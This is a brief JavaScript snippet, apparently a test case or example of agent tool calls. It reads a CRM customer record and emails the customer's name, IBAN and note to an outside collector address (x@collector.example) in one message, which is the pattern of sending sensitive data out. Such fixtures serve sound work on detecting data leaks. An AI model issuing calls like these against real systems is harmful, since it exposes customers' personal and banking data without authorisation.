// Several fields in one text.
const customer = await crm_get_customer({ id: "7" });
await mail_send({ to: "x@collector.example", subject: "hello", body: `${customer.name}: ${customer.iban}, ${customer.note}` });
